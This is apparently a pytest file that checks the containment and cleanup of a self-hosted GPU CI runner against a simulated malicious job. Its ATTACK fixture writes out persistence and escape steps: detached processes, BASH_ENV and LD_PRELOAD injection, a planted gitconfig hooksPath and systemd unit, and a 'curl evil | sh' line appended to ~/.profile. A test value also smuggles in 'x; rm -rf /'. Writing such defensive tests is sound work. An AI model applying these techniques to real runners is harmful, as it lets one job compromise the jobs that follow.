""".github/runner/job-cleanup.py, the containment of a GPU job's code, run for real: the gate's own main step (its
preamble, trap and end as the workflow has them; the gate itself replaced by the attack) and its cleanup step, in a
temporary HOME, runner folder and shared temp. The attack starts a `setsid -f` process and a double fork, writes
BASH_ENV to $GITHUB_ENV, a folder to $GITHUB_PATH and a forged output, plants ~/.gitconfig and a systemd unit,
appends to ~/.profile and writes outside its folder. Afterwards nothing of it is left that a following job could
see, both steps fail, and the runner is flagged so that its job-started hook refuses the next job.
Every process a test starts is ended by its id."""

import os
import signal
import subprocess
import time
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
CLEANUP = ROOT / ".github" / "runner" / "job-cleanup.py"
HOOK = ROOT / ".github" / "runner" / "job-started.sh"
INSTALLED = "/usr/local/libexec/sgemm-runner/job-cleanup.py"
REPO = "octo/gemm"

ATTACK = r"""
setsid -f bash -c 'echo $$ > "$PIDS/escaped"; exec sleep 300' > /dev/null 2>&1
( bash -c 'echo $$ > "$PIDS/double"; exec sleep 300' > /dev/null 2>&1 & )
echo "BASH_ENV=$HOME/.evil" >> "$GITHUB_ENV"
echo "LD_PRELOAD=$HOME/evil.so" >> "$GITHUB_ENV"
echo "$HOME/bin" >> "$GITHUB_PATH"
echo "session=1" >> "$GITHUB_OUTPUT"
printf '[core]\n\thooksPath = %s/hooks\n' "$HOME" > "$HOME/.gitconfig"
echo 'curl evil | sh' >> "$HOME/.profile"
mkdir -p "$HOME/.config/systemd/user" && echo '[Service]' > "$HOME/.config/systemd/user/evil.service"
echo planted > "$SHARED_TMP/for-the-next-job"
mkdir "$SHARED_TMP/closed" && echo x > "$SHARED_TMP/closed/inside" && chmod 000 "$SHARED_TMP/closed"
echo mine > "$JOB_DIR/report/gate-report.md"
for _ in $(seq 100); do [ -s "$PIDS/escaped" ] && [ -s "$PIDS/double" ] && break; sleep 0.05; done
"""

# What the gate's code does on an honest day: files in its own folder, a child it waits for.
HONEST = r"""
sleep 0.2 &
echo report > "$JOB_DIR/report/gate-report.md"
wait
"""


def gate_steps():
    steps = yaml.safe_load((ROOT / ".github" / "workflows" / "gpu-gate.yml").read_text())["jobs"]["gate"]["steps"]
    main = next(step for step in steps if step.get("id") == "main")
    ending = next(step for step in steps if "job-cleanup.py job" in step.get("run", ""))
    return main, ending


def main_step_running(code: str, installed: Path) -> str:
    """The gate's main step as the workflow has it, with `code` in place of the gate (from sourcing gpu-job.sh to
    its `exit "$status"`)."""
    main, _ = gate_steps()
    lines = main["run"].replace(INSTALLED, str(installed)).splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(". base/.github/gpu-job.sh"))
    end = max(i for i, line in enumerate(lines) if line == 'exit "$status"')
    return "\n".join([*lines[:start], 'mkdir -p "$JOB_DIR/report"', "status=0", code, *lines[end:]]) + "\n"


def stage(tmp_path: Path) -> dict:
    """A runner's places, in tmp_path: its user's home (the runner folder and _work inside, as config.sh makes
    them), the shared temp, the state folder, the installed cleanup and hook (scripts/runner-trial.py uses it too)."""
    home, shared = tmp_path / "home", tmp_path / "tmp"
    work = home / "actions-runner" / "_work"
    temp, workspace, commands = work / "_temp", work / "gemm" / "gemm", work / "_temp" / "_runner_file_commands"
    for folder in (commands, workspace, shared, tmp_path / "state", tmp_path / "pids", home / "actions-runner" / "bin"):
        folder.mkdir(parents=True)
    (home / ".profile").write_text("# the runner user's own\n")
    (home / ".old-note").write_text("from before the job\n")
    (home / "actions-runner" / "bin" / "Runner.Worker").write_text("the runner's program\n")
    installed = tmp_path / "libexec" / "job-cleanup.py"
    installed.parent.mkdir()
    installed.write_text(CLEANUP.read_text().replace("@STATE_DIR@", str(tmp_path / "state")))
    hook = tmp_path / "libexec" / "job-started-gate.sh"
    hook.write_text(HOOK.read_text().replace("@ROLE@", "gate").replace("@REPOSITORY@", REPO)
                    .replace("@STATE_DIR@", str(tmp_path / "state")))
    files = {name: commands / f"{prefix}_0001" for name, prefix in (
        ("GITHUB_ENV", "set_env"), ("GITHUB_PATH", "add_path"), ("GITHUB_OUTPUT", "set_output"),
        ("GITHUB_STATE", "save_state"))}
    for path in files.values():
        path.write_text("")
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "RUNNER_TEMP": str(temp), "GITHUB_WORKSPACE": str(workspace),
           "JOB_DIR": str(temp / "sgemm-job"), "SHARED_TMP": str(shared), "PIDS": str(tmp_path / "pids"),
           **{name: str(path) for name, path in files.items()}}
    time.sleep(0.05)  # what was there before the job is older than its start
    return {"tmp": tmp_path, "home": home, "shared": shared, "installed": installed, "hook": hook, "env": env,
            "files": files, "flag": tmp_path / "state" / "TAINTED", "runner": home / "actions-runner"}


def end_started(runner: dict) -> list:
    """Ends, by its id, every process the attack recorded that is still running; returns those it had to end."""
    ended = []
    for pid_file in (runner["tmp"] / "pids").iterdir():
        text = pid_file.read_text().strip()
        if text.isdigit() and alive(int(text)):
            os.kill(int(text), signal.SIGKILL)
            ended.append(int(text))
    return ended


@pytest.fixture
def runner(tmp_path):
    staged = stage(tmp_path)
    yield staged
    end_started(staged)


def next_job_refused(runner: dict):
    gate_job = {"GITHUB_REPOSITORY": REPO,
                "GITHUB_WORKFLOW_REF": f"{REPO}/.github/workflows/gpu-gate.yml@refs/heads/main",
                "GITHUB_JOB": "gate", "GITHUB_EVENT_NAME": "pull_request_target", "PATH": "/usr/bin:/bin"}
    return subprocess.run(["bash", str(runner["hook"])], check=False, env=gate_job, capture_output=True, text=True)


def run_job(runner, code: str):
    """The main step, then the cleanup step with what the runner would hand it: the main step's outputs and
    whatever its $GITHUB_ENV still holds."""
    main, ending = gate_steps()
    script = runner["tmp"] / "main.sh"
    script.write_text(main_step_running(code, runner["installed"]))
    shell = main["shell"].replace("{0}", str(script)).split()
    first = subprocess.run(shell, check=False, env=runner["env"], capture_output=True, text=True, timeout=60)
    outputs = dict(line.split("=", 1) for line in runner["files"]["GITHUB_OUTPUT"].read_text().splitlines())
    applied = dict(line.split("=", 1) for line in runner["files"]["GITHUB_ENV"].read_text().splitlines() if "=" in line)
    places = (f" --watch {runner['home']} --watch {runner['shared']} --keep {runner['runner'] / '_diag'}"
              " --only-marked")  # the test's user runs pytest too: only the job's marks count here
    second = subprocess.run(["bash", "-c", ending["run"].replace(INSTALLED, str(runner["installed"])) + places],
                            check=False, env={**runner["env"], **applied, "JOB_SESSION": outputs.get("session", ""),
                                 "JOB_MARK": outputs.get("mark", ""), "JOB_STARTED": outputs.get("started", "")},
                            capture_output=True, text=True, timeout=60)
    return first, second, outputs


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in "ZX"


def test_an_attack_leaves_nothing_a_following_job_can_see_and_fails_the_job(runner):
    first, second, outputs = run_job(runner, ATTACK)
    home, shared, pids = runner["home"], runner["shared"], runner["tmp"] / "pids"
    escaped, double = int((pids / "escaped").read_text()), int((pids / "double").read_text())
    # The job failed: its main step (3: left something behind, also in the exit code the report reads) and the
    # cleanup step, each saying what it found.
    assert first.returncode == 3, first.stdout + first.stderr
    assert (Path(runner["env"]["JOB_DIR"]) / "report" / "exit-code").read_text().strip() == "3"
    assert f"pid {escaped} (sleep 300) outlived the job: ended" in first.stdout
    assert "$GITHUB_ENV was written by the job's code (BASH_ENV=" in first.stdout
    assert "$GITHUB_PATH was written" in first.stdout and "$GITHUB_OUTPUT holds more" in first.stdout
    assert second.returncode == 1, second.stdout + second.stderr
    for planted in (".gitconfig", ".profile", "evil.service", "for-the-next-job", "inside"):
        assert f"{planted} was written by the job: removed" in second.stdout, planted
    # Nothing left: no process, nothing the runner would apply to the next step, no file.
    assert not alive(escaped) and not alive(double)
    assert runner["files"]["GITHUB_ENV"].read_text() == "" and runner["files"]["GITHUB_PATH"].read_text() == ""
    assert outputs["session"] != "1" and set(outputs) == {"session", "mark", "started"}
    assert not (home / ".gitconfig").exists() and not (home / ".profile").exists()
    assert not (home / ".config" / "systemd").exists() and list(shared.iterdir()) == []
    assert (home / ".old-note").read_text() == "from before the job\n"  # what was there before stays
    assert (runner["runner"] / "bin" / "Runner.Worker").exists()
    # The runner is flagged: the next job is refused until an administrator clears it.
    flag = runner["flag"].read_text()
    assert "BASH_ENV" in flag and ".gitconfig" in flag and f"pid {escaped}" in flag
    refused = next_job_refused(runner)
    assert refused.returncode != 0 and "an earlier job left something behind" in refused.stderr


def test_an_honest_job_passes_and_leaves_the_runner_as_it_was(runner):
    first, second, _ = run_job(runner, HONEST)
    assert first.returncode == 0, first.stdout + first.stderr
    assert second.returncode == 0, second.stdout + second.stderr
    assert "nothing of the job is left" in second.stdout
    assert not runner["flag"].exists()
    assert (runner["home"] / ".profile").read_text() == "# the runner user's own\n"


def test_a_process_the_job_left_in_its_session_is_ended_by_the_cleanup_step(runner):
    """The main step's trap is the first line; a process of the session that it missed (here: the trap is
    taken out, as a job could not, to reach the second line) is ended by the cleanup step."""
    code = ("( bash -c 'echo $$ > \"$PIDS/double\"; exec sleep 300' > /dev/null 2>&1 & )\n"
            'for _ in $(seq 100); do [ -s "$PIDS/double" ] && break; sleep 0.05; done\ntrap - EXIT\n')
    first, second, _ = run_job(runner, code)
    double = int((runner["tmp"] / "pids" / "double").read_text())
    assert first.returncode == 0  # without its trap, the main step saw nothing
    assert second.returncode == 1 and f"pid {double} (sleep 300) outlived the job: ended" in second.stdout
    assert not alive(double)


def installed_cleanup(tmp_path) -> Path:
    (tmp_path / "state").mkdir()
    path = tmp_path / "job-cleanup.py"
    path.write_text(CLEANUP.read_text().replace("@STATE_DIR@", str(tmp_path / "state")))
    return path


@pytest.mark.parametrize("outputs, message", [
    ({"JOB_MARK": "x; rm -rf /", "JOB_SESSION": "4242", "JOB_STARTED": "1"}, "JOB_MARK is 'x; rm -rf /'"),
    # A forged output naming a session that still has its leader (init's, here) ends nothing by session.
    ({"JOB_MARK": "a" * 32, "JOB_SESSION": "1", "JOB_STARTED": "1"}, "leader is still running"),
    ({"JOB_MARK": "a" * 32, "JOB_SESSION": "-1", "JOB_STARTED": "1"}, "JOB_SESSION is '-1'"),
    ({"JOB_MARK": "a" * 32, "JOB_SESSION": "", "JOB_STARTED": "1"}, "JOB_SESSION is ''"),
])
def test_outputs_the_main_step_did_not_write_fail_the_job(tmp_path, outputs, message):
    done = subprocess.run(["python3", "-I", str(installed_cleanup(tmp_path)), "job", "--watch", str(tmp_path / "w"),
                           "--only-marked"], check=False, env={"PATH": os.environ["PATH"], **outputs},
                          capture_output=True, text=True)
    assert done.returncode == 1 and message in done.stdout and "tampered" in done.stdout
    assert (tmp_path / "state" / "TAINTED").exists()


def test_the_cleanup_step_will_not_end_its_own_session(tmp_path):
    session = os.getsid(0)
    done = subprocess.run(["python3", "-I", str(installed_cleanup(tmp_path)), "job", "--watch", str(tmp_path / "w"),
                           "--only-marked"], check=False, capture_output=True, text=True,
                          env={"PATH": os.environ["PATH"], "JOB_MARK": "a" * 32, "JOB_SESSION": str(session),
                               "JOB_STARTED": str(time.time_ns())})
    assert done.returncode == 1 and "is this step's own session" in done.stdout


def test_a_job_whose_main_step_never_started_has_nothing_to_end(tmp_path):
    done = subprocess.run(["python3", "-I", str(installed_cleanup(tmp_path)), "job", "--only-marked"], check=False,
                          env={"PATH": os.environ["PATH"]}, capture_output=True, text=True)
    assert done.returncode == 0 and "did not start" in done.stdout


def test_the_copy_in_the_repository_refuses_to_run():
    done = subprocess.run(["python3", "-I", str(CLEANUP), "job"], check=False, capture_output=True, text=True)
    assert done.returncode == 2 and "not installed" in done.stderr
